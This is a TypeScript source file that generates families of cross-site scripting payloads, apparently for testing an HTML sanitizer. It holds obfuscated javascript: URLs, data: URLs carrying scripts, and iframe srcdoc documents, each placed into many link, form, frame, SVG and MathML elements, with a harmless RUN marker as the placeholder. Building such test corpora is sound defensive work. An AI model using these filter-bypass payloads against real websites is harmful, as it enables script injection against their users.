import type { Family } from "./payloads.ts";

const schemes = [
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  " javascript:RUN",
  "&#1;javascript:RUN",
  "java&#9;script:RUN",
  "java&#10;script:RUN",
  "java&#13;script:RUN",
  "javascript&colon;RUN",
  "&#106;avascript:RUN",
  "&#x6A;avascript&#58;RUN",
  "javascript://%0aRUN",
  "javascript:void(RUN)",
  "javascript:%5f%5fexecuted(0);RUN",
  "javascript:'<img/src=x:/onerror=RUN>'",
];

const places = [
  '<a href="URL">a</a>',
  '<a href="URL" target=_top>a</a>',
  '<a href="URL" target=_blank rel=opener>a</a>',
  '<map name=m><area shape=default href="URL"></map><img usemap=#m src=/favicon.svg width=9 height=9>',
  '<form action="URL"><button>f</button></form>',
  '<form><button formaction="URL">f</button></form>',
  '<form><input type=submit formaction="URL"></form>',
  '<form><input type=image formaction="URL" src=/favicon.svg></form>',
  '<iframe src="URL"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<svg><a href="URL"><text y=9>a</text></a></svg>',
  '<svg><a xlink:href="URL"><text y=9>a</text></a></svg>',
  '<math href="URL"><mi>m</mi></math>',
  '<math><maction actiontype=statusline xlink:href="URL">m</maction></math>',
  '<img src="URL">',
  '<video src="URL" poster="URL"></video>',
  '<link rel=stylesheet href="URL">',
  '<script src="URL"></script>',
  '<svg><animate xlink:href=#here attributeName=href values="URL" /><a id=here><text y=9>a</text></a></svg>',
];

const dataUrls = [
  "data:text/html,<script>RUN</script>",
  "data:text/html;base64,PHNjcmlwdD5fX2V4ZWN1dGVkKDApPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
  "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></html>",
  "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>parent.RUN</script></x>",
  "data:text/css,@import url(ELSEWHERE/data.css)",
];

const documents = [
  '<iframe src="URL"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<img src="URL">',
  '<svg><use href="URL#x" /></svg>',
  '<svg><image href="URL" /></svg>',
  '<link rel=stylesheet href="URL">',
  '<frame src="URL">',
  '<portal src="URL"></portal>',
  '<fencedframe src="URL"></fencedframe>',
];

const insides = [
  "<script>parent.RUN</script>",
  "<script>top.RUN</script>",
  "<script>RUN</script>",
  "<img src=x: onerror=parent.RUN>",
  "<svg onload=top.RUN></svg>",
  "<script src=ELSEWHERE/frame.js></script>",
  "<form action=ELSEWHERE/frame><input autofocus onfocus=parent.RUN></form>",
  "<base target=_top><a href=javascript:RUN autofocus>a</a>",
  "<iframe srcdoc='<script>top.RUN</script>'></iframe>",
];

const escape = (html: string) => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

const framed = insides.flatMap((html) => [
  `<iframe srcdoc="${escape(html)}"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${escape(html)}"></iframe>`,
  `<iframe loading=lazy credentialless srcdoc="${escape(html)}"></iframe>`,
]);

const fill = (templates: readonly string[], urls: readonly string[]) =>
  templates.flatMap((template) => urls.map((url) => template.replaceAll("URL", escapeQuotes(url))));

const escapeQuotes = (url: string) => url.replaceAll('"', "&quot;");

export const scriptUrls: Family[] = [
  { name: "a javascript: address", html: fill(places, schemes) },
  { name: "a data: address", html: fill(documents, dataUrls) },
  { name: "a frame with its document", html: framed },
];
